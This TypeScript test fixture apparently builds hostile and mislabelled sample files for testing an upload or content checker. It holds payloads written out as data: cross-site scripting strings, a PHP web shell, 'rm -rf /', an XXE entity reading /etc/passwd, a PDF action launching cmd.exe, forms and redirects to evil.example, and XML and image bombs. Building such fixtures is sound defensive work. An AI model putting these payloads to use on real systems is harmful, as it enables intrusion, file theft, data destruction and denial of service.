import {
  archive,
  box,
  bytesOf,
  heic,
  jpeg,
  jpegNote,
  pdf,
  png,
  pngText,
  pngWith,
  tiff,
  wav,
  webp,
  word,
} from './files.ts'

/** A file that is not what it seems, and what its sender calls it. */
export type ConfusingFile = {
  readonly what: string
  readonly bytes: Uint8Array
  readonly said: string
}

const script = '<script>window.__x=1</script>'
const page = `<!DOCTYPE html><html><body>${script}</body></html>`
const drawing = `<svg xmlns="http://www.w3.org/2000/svg" onload="window.__x=1">${script}</svg>`
const jar = archive([{ name: 'META-INF/MANIFEST.MF' }, { name: 'Evil.class' }])
const xmlHead = '<?xml version="1.0" encoding="UTF-8"?>'
const utf16 = (text: string) => bytesOf(0xff, 0xfe, Buffer.from(text, 'utf16le'))
const octets = 'application/octet-stream'

type Made = readonly [what: string, bytes: Uint8Array | string, said?: string]

const pages: readonly Made[] = [
  ['a page as a picture', page, 'image/png'],
  ['a page as a PDF', page, 'application/pdf'],
  ['a page as text', page, 'text/plain'],
  ['a page without a word on what it is', page, octets],
  ['a page behind empty lines', `\n\n \t${page}`, 'text/plain'],
  ['a page behind a byte order mark', bytesOf(0xef, 0xbb, 0xbf, page), 'text/plain'],
  ['a page in UTF-16', utf16(page), 'text/plain'],
  ['a page in capitals', page.toUpperCase(), 'text/plain'],
  ['a page behind a comment', `<!-- a letter -->${page}`, 'text/plain'],
  ['a script far down in a text', `${'calm '.repeat(20_000)}${script}`, 'text/plain'],
  ['a frame in a text', 'Dear all <iframe src=javascript:alert(1)>', 'text/plain'],
  ['a picture with a handler in a text', 'x <img src=x onerror=alert(1)>', 'text/plain'],
  ['a form in a text', 'x <form action=//evil.example>', 'text/plain'],
  ['a redirection in a text', '<meta http-equiv=refresh content="0;url=//evil.example">', 'text/plain'],
  ['a program of a shell', '#!/bin/sh\nrm -rf /\n', 'text/plain'],
  ['PostScript', '%!PS-Adobe-3.0\n(x) show\n', 'text/plain'],
  ['PHP', '<?php system($_GET[0]); ?>', 'text/plain'],
]

const drawings: readonly Made[] = [
  ['a drawing with a script', drawing, 'image/svg+xml'],
  ['a drawing as a picture', drawing, 'image/png'],
  ['a drawing as XML', `${xmlHead}${drawing}`, 'application/xml'],
  ['a drawing under a prefix', `${xmlHead}<s:svg xmlns:s="http://www.w3.org/2000/svg"/>`, 'application/xml'],
  [
    'a drawing inside other XML',
    `${xmlHead}<a><b xmlns="http://www.w3.org/2000/svg"/></a>`,
    'application/xml',
  ],
  ['a page as XML', `${xmlHead}<html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`, 'text/xml'],
  ['a page under a prefix', `${xmlHead}<x:a xmlns:x="http://www.w3.org/1999/xhtml"/>`, 'application/xml'],
  [
    'XML with a style sheet',
    `${xmlHead}<?xml-stylesheet href="//evil.example/x.xsl"?><a/>`,
    'application/xml',
  ],
  [
    'XML with an entity',
    `${xmlHead}<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`,
    'text/xml',
  ],
  ['a transformation', `${xmlHead}<t:a xmlns:t="http://www.w3.org/1999/XSL/Transform"/>`, 'application/xml'],
  [
    'XML in an encoding of its own',
    '<?xml version="1.0" encoding="UTF-7"?><a>+ADw-script+AD4-</a>',
    'text/xml',
  ],
  ['XML that never ends', `${xmlHead}<a><b>`, 'application/xml'],
]

const twins: readonly Made[] = [
  ['a PNG with an archive behind it', bytesOf(png(), jar), 'image/png'],
  ['a JPEG with an archive behind it', bytesOf(jpeg(), jar), 'image/jpeg'],
  ['a PDF with an archive behind it', bytesOf(pdf(), jar), 'application/pdf'],
  [
    'a PDF inside an archive’s comment',
    archive([{ name: 'a' }], pdf().toString('latin1')),
    'application/pdf',
  ],
  ['a text with an archive behind it', bytesOf('a letter\n', archive([{ name: 'a' }])), 'text/plain'],
  ['a sound with an archive behind it', bytesOf(wav(), jar), octets],
  ['a TIFF with an archive behind it', bytesOf(tiff(), jar), 'image/tiff'],
  ['a PNG with a page behind it', bytesOf(png(), page), 'image/png'],
  ['a PNG with a page in a note', png(4, 4, pngText(page)), 'image/png'],
  ['a JPEG with a page in its note', jpeg(8, 8, jpegNote(page)), 'image/jpeg'],
  ['a JPEG with a PDF in its note', jpeg(8, 8, jpegNote(pdf().toString('latin1'))), 'image/jpeg'],
  ['a PNG with a PDF in a note', png(4, 4, pngText('%PDF-1.4')), 'image/png'],
  ['a PDF with a page behind its end', bytesOf(pdf(), page), 'application/pdf'],
  ['a PDF that begins as a page', bytesOf(page, pdf()), 'application/pdf'],
  ['a PDF behind a picture', bytesOf(png(), pdf()), 'application/pdf'],
  ['a GIF that is a script', 'GIF89a/*....*/=1;alert(1)', 'image/gif'],
  ['a GIF with an archive behind it', bytesOf('GIF89a\x01\x00\x01\x00\x80\x00\x00;', jar), 'image/gif'],
  ['a BMP that is a script', 'BM/*....*/=1;alert(1)\0\0', 'image/bmp'],
  ['a HEIC with an archive behind it', bytesOf(heic(), jar), 'image/heic'],
  ['a Word document with an archive behind it', bytesOf(word(), jar), octets],
]

const carriers: readonly Made[] = [
  [
    'a PDF that runs a script',
    pdf(['x'], '/OpenAction << /S /JavaScript /JS (app.alert(1)) >> '),
    'application/pdf',
  ],
  [
    'a PDF that hides a script in digits',
    pdf(['x'], '/OpenAction << /S /J#61vaScript >> '),
    'application/pdf',
  ],
  [
    'a PDF that starts a program',
    pdf(['x'], '/OpenAction << /S /Launch /F (cmd.exe) >> '),
    'application/pdf',
  ],
  ['a PDF that carries a file', pdf(['x'], '/Names << /EmbeddedFiles 9 0 R >> '), 'application/pdf'],
  ['a PDF that sends a form', pdf(['x'], '/OpenAction << /S /SubmitForm >> '), 'application/pdf'],
  ['a Word document with macros', word([{ name: 'word/vbaProject.bin' }]), octets],
  ['a Word document with a program', word([{ name: 'word/embeddings/run.exe' }]), octets],
  ['a Word document with an object', word([{ name: 'word/embeddings/oleObject1.bin' }]), octets],
  ['rich text with an object', '{\\rtf1 {\\object\\objemb{\\*\\objdata 0105}}}', 'application/rtf'],
  ['rich text that fetches', '{\\rtf1 {\\field{\\*\\fldinst DDEAUTO c:\\\\x}}\\ddeauto}', 'application/rtf'],
]

const liars: readonly Made[] = [
  ['a PNG as a JPEG', png(), 'image/jpeg'],
  ['a JPEG as a PDF', jpeg(), 'application/pdf'],
  ['a PDF as text', pdf(), 'text/plain'],
  ['a text as a PDF', 'a letter', 'application/pdf'],
  ['a picture as a page', png(), 'text/html'],
  ['a picture as a drawing', png(), 'image/svg+xml'],
  ['a program of Windows', bytesOf('MZ\x90\0\x03', Buffer.alloc(60)), octets],
  ['a program of Linux', bytesOf('\x7fELF\x02\x01', Buffer.alloc(60)), octets],
  ['a program of Java', bytesOf(0xca, 0xfe, 0xba, 0xbe, Buffer.alloc(60)), octets],
  ['a plain archive', archive([{ name: 'a.txt' }]), 'application/zip'],
  ['an archive as a Word document', archive([{ name: 'a.txt' }]), octets],
  ['a spreadsheet', archive([{ name: '[Content_Types].xml' }, { name: 'xl/workbook.xml' }]), octets],
  ['an old Office file', bytesOf(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, Buffer.alloc(60)), octets],
  ['Flash', bytesOf('FWS\x05', Buffer.alloc(60)), octets],
  ['nothing', '', 'application/pdf'],
  ['the first bytes of a PNG', png().subarray(0, 20), 'image/png'],
  ['a PNG without its end', png().subarray(0, -8), 'image/png'],
  ['a PDF without its end', pdf().subarray(0, -8), 'application/pdf'],
  ['a JPEG without its end', jpeg().subarray(0, -2), 'image/jpeg'],
  ['a text with characters of programs', bytesOf('letter\0\x01\x02'), 'text/plain'],
  ['a text in another encoding', bytesOf('caf', 0xe9), 'text/plain'],
  ['boxes of a kind that nobody knows', bytesOf(box('ftyp', 'evil', 0, 0, 0, 0), box('mdat', 'x')), octets],
]

const bombs: readonly Made[] = [
  ['a picture of 2,500 million pixels', pngWith(50_000, 50_000, { pixels: Buffer.alloc(10) }), 'image/png'],
  ['a JPEG of 4,000 million pixels', jpeg(65_000, 65_000), 'image/jpeg'],
  ['a TIFF of 10,000 million pixels', tiff(100_000, 100_000), 'image/tiff'],
  ['a HEIC of 400 million pixels', heic(20_000, 20_000), 'image/heic'],
  ['a WebP of 200 million pixels', webp(16_000, 16_000), octets],
  ['a document of 3,000 pages', pdf(Array.from({ length: 3_000 }, () => 'x')), 'application/pdf'],
  ['a document that says it has a million pages', pdf(['x'], '/Count 1000000 '), 'application/pdf'],
  ['an archive that unpacks to two gigabytes', word([{ name: 'word/media.xml', says: 2 ** 31 }]), octets],
  [
    'an archive of 6,000 entries',
    archive(Array.from({ length: 6_000 }, (_, at) => ({ name: `${at}` }))),
    octets,
  ],
  ['XML 10,000 deep', `${xmlHead}${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}`, 'application/xml'],
  ['XML of 300,000 elements', `${xmlHead}<a>${'<b/>'.repeat(300_000)}</a>`, 'application/xml'],
  ['XML of comments that never end', `${xmlHead}<a>${'<!--'.repeat(500_000)}`, 'application/xml'],
  [
    'a billion laughs',
    `${xmlHead}<!DOCTYPE a [<!ENTITY b "${'&c;'.repeat(20)}">]><a>&b;</a>`,
    'application/xml',
  ],
]

function made(list: readonly Made[]): readonly ConfusingFile[] {
  return list.map(([what, bytes, said = octets]) => ({
    what,
    bytes: typeof bytes === 'string' ? Buffer.from(bytes) : bytes,
    said,
  }))
}

/** For tests of content, files that two readers would read as two things, that say something else than they are, or that carry a program. */
export const confusingFiles = made([...pages, ...drawings, ...twins, ...carriers, ...liars])

/** Files that are small and would become large. */
export const bombFiles = made(bombs)
